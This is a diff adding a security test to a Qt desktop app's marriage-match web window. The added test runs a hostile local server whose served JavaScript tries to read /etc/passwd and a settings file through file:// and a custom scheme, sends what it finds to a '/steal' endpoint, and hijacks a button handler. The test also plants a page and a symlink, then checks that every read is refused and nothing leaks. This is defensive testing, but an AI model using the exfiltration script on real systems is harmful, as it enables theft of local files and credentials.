@@ -1,7 +1,10 @@
 // The naming windows and the marriage window against the real answering
 // service (started by the main window on 127.0.0.1), offscreen: proposals in
 // the result labels, the match computed and drawn by the marriage pages' own
-// script, and the error texts when the service cannot be reached.
+// script, and the error texts when the service cannot be reached; and a
+// hostile marriage server that gets nothing of the machine's files.
+
+#include <httplib.h>
 
 #include <QAction>
 #include <QComboBox>
@@ -10,11 +13,15 @@
 #include <QLabel>
 #include <QLineEdit>
 #include <QPushButton>
+#include <QSignalSpy>
 #include <QTest>
 #include <QTimer>
 #include <QWebEnginePage>
 #include <QWebEngineView>
+#include <filesystem>
 #include <fstream>
+#include <mutex>
+#include <thread>
 
 #include "app/bundled_service.h"
 #include "app/gradient_progress.h"
@@ -26,6 +33,7 @@
 #include "app/tform6.h"
 #include "app/tform9.h"
 #include "platform/qt/qt_browser.h"
+#include "refdb/settings_file.h"
 #include "tests/app/recording_dialogs.h"
 #include "tests/app/window_test_main.h"
 #include "tests/test_folder.h"
@@ -84,6 +92,67 @@ void AskForMatch(QWebEngineView* view, const QString& man, const QString& manBir
                          " f.calc.click(); })(document.forms[0])")
                      .arg(man, m[0], m[1], m[2], woman, w[0], w[1], w[2]));
 }
+
+// A marriage server on a free port of 127.0.0.1 that plays foul: every
+// script it is asked for reads what a local page might reach (the password
+// file by both schemes, the settings file) and sends it back, and takes the
+// place of the button's function. It records every request it gets.
+class HostileMarriageServer {
+ public:
+  explicit HostileMarriageServer(const std::string& settingsFile) {
+    port_ = server_.bind_to_any_port("127.0.0.1");
+    const std::string script = HostileScript(settingsFile);
+    server_.Get(R"(.*\.js)", [script](const httplib::Request&, httplib::Response& response) {
+      response.set_content(script, "text/javascript");
+    });
+    const auto answer = [](const httplib::Request&, httplib::Response& response) { response.set_content("", "text/plain"); };
+    server_.Get(".*", answer);
+    server_.Post(".*", answer);
+    server_.set_logger([this](const httplib::Request& request, const httplib::Response&) {
+      std::string seen = request.method + " " + request.path + " " + request.body;
+      for (const auto& [name, value] : request.params) seen += " " + name + "=" + value;
+      const std::lock_guard lock(mutex_);
+      requests_.push_back(seen);
+    });
+    thread_ = std::thread([this] { server_.listen_after_bind(); });
+  }
+  ~HostileMarriageServer() {
+    server_.stop();
+    thread_.join();
+  }
+  std::string Base() const { return "http://127.0.0.1:" + std::to_string(port_); }
+  std::vector<std::string> Requests() {
+    const std::lock_guard lock(mutex_);
+    return requests_;
+  }
+
+ private:
+  std::string HostileScript(const std::string& settingsFile) const {
+    return "(function () {\n"
+           "  var home = 'http://127.0.0.1:" + std::to_string(port_) + "/';\n"
+           "  function send(what, text) {\n"
+           "    var data = what + ' ' + text;\n"
+           "    try { fetch(home + 'steal', {method: 'POST', mode: 'no-cors', body: data}); } catch (e) {}\n"
+           "    try { new Image().src = home + 'steal?d=' + encodeURIComponent(data); } catch (e) {}\n"
+           "  }\n"
+           "  function read(url) {\n"
+           "    try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); send(url, x.responseText); }\n"
+           "    catch (e) { send(url, 'refused'); }\n"
+           "    try { fetch(url).then(function (r) { return r.text(); }).then(function (t) { send(url, t); }, function () {}); }\n"
+           "    catch (e) {}\n"
+           "  }\n"
+           "  ['velmora:/etc/passwd', 'file:///etc/passwd', 'velmora:" + settingsFile + "', 'file://" + settingsFile +
+           "'].forEach(read);\n"
+           "  window.onClick_hunpei = function () { send('button', 'taken'); return false; };\n"
+           "})();\n";
+  }
+
+  httplib::Server server_;
+  int port_ = 0;
+  std::thread thread_;
+  std::mutex mutex_;
+  std::vector<std::string> requests_;
+};
 
 }  // namespace
 
@@ -199,9 +268,9 @@ class NamingWindowsTest : public QObject {
       int height;
     };
     const Case cases[] = {
-        {&TForm1::N4324321Click, "hpbx1.html", "hunpei", 422, 239},   // the local script ssbx.js
-        {&TForm1::MenuItem3Click, "hpbx1.html", "hunpeie", 422, 239},  // the same file, now with the first server's script
-        {&TForm1::MenuItem5Click, "hpbx5.html", "hunpei", 340, 220},   // page C from the fourth server
+        {&TForm1::N4324321Click, "hpbx1.html", "hunpei", 422, 239},   // page B
+        {&TForm1::MenuItem3Click, "hpbx1.html", "hunpeie", 422, 239},  // the same file, now page A
+        {&TForm1::MenuItem5Click, "hpbx5.html", "hunpei", 340, 220},   // page C, naming the fourth server
     };
     for (const Case& c : cases) {
       form.WebBrowser1View->setZoomFactor(1.3);
@@ -240,6 +309,68 @@ class NamingWindowsTest : public QObject {
         QVERIFY2(text.contains(QString::fromUtf8(name)), qPrintable(text));
       }
       QVERIFY(text.contains(QString::fromUtf8("男属龙、女属蛇")));  // the Spring Festival of 2001 was on January 24
+    }
+  }
+
+  void AHostileMarriageServerGetsNoFileAndTheMatchIsStillOurs() {
+    testing::TestFolder folder;
+    testing::CopyBuiltProgramFolder(folder);
+    const std::string settings = SettingsFilePath(folder.Path());
+    const std::string secret = "secret-name-of-the-settings-file";
+    testing::WriteFile(settings, "[setup]\r\nname=" + secret + "\r\n");
+    HostileMarriageServer hostile(settings);
+    testing::WriteFile(folder.Path() + "data/services.ini", "[marriage1]\r\nbase=" + hostile.Base() +
+                                                             "\r\n[marriage4]\r\nbase=" + hostile.Base() + "\r\n");
+    Program program(folder);
+    TForm6& form = *program.windows.TForm6;
+    for (void (TForm1::*command)() : {&TForm1::MenuItem3Click, &TForm1::MenuItem5Click}) {
+      (program.window.*command)();
+      QTRY_VERIFY_WITH_TIMEOUT(Evaluate(form.WebBrowser1View, "typeof onClick_hunpei").toString() == "function" &&
+                                   form.GradProgress1->Position() == 100,
+                               kAnswerMs);
+      // the page names the hostile server, and runs only the program's own script
+      QVERIFY(Evaluate(form.WebBrowser1View, "document.getElementsByTagName('applet')[0].getAttribute('codebase')")
+                  .toString()
+                  .startsWith(QString::fromStdString(hostile.Base())));
+      QCOMPARE(Evaluate(form.WebBrowser1View,
+                        "Array.from(document.scripts).filter(s => s.src).map(s => s.src.split('/').pop()).join()")
+                   .toString(),
+               QString("ssbx.js"));
+      AskForMatch(form.WebBrowser1View, QString::fromUtf8("张伟"), "1988-07-16", QString::fromUtf8("李娜"), "2001-02-03");
+      QCOMPARE(Evaluate(form.WebBrowser1View, "document.getElementById('hunpei_chart').getAttribute('data-coefficients')")
+                   .toString()
+                   .split(',')
+                   .size(),
+               6);
+    }
+    // a local page that names the server's script, as no answer can after
+    // the filter, does not run it; a script of its own reads no file either
+    testing::WriteFile(folder.Path() + "planted.htm",
+                       "<html><body><script src=\"" + hostile.Base() + "/planted.js\"></script><script>"
+                       "document.title = ['velmora:/etc/passwd', 'file:///etc/passwd', 'velmora:" + settings + "']"
+                       ".map(u => { try { const x = new XMLHttpRequest(); x.open('GET', u, false); x.send();"
+                       " return x.responseText.length; } catch (e) { return 'refused'; } }).join();"
+                       "</script></body></html>");
+    form.WebBrowser1->Navigate(folder.Path() + "planted.htm");
+    QTRY_COMPARE_WITH_TIMEOUT(form.WebBrowser1View->title(), QString("refused,refused,refused"), kAnswerMs);
+    QCOMPARE(Evaluate(form.WebBrowser1View, "typeof onClick_hunpei").toString(), QString("undefined"));
+    // and local pages show no file outside the program's folders, however named
+    testing::TestFolder outside;
+    testing::WriteFile(outside.Path() + "outside.htm", "<p>outside the program</p>");
+    std::filesystem::create_symlink(outside.Path() + "outside.htm", folder.Path() + "inside.htm");
+    for (const std::string& page : {outside.Path() + "outside.htm", folder.Path() + "inside.htm"}) {
+      QSignalSpy loaded(form.WebBrowser1View, &QWebEngineView::loadFinished);
+      form.WebBrowser1->Navigate(page);
+      QTRY_VERIFY_WITH_TIMEOUT(!loaded.isEmpty(), kAnswerMs);
+      QVERIFY2(!Evaluate(form.WebBrowser1View, "document.body ? document.body.innerText : ''")
+                    .toString()
+                    .contains("outside the program"),
+               page.c_str());
+    }
+    QTest::qWait(1000);  // time for whatever a script would still send
+    for (const std::string& request : hostile.Requests()) {
+      QVERIFY2(request.find(".js") == std::string::npos, request.c_str());  // no script of the server was asked for
+      QVERIFY2(request.find("root:") == std::string::npos && request.find(secret) == std::string::npos, request.c_str());
     }
   }
 
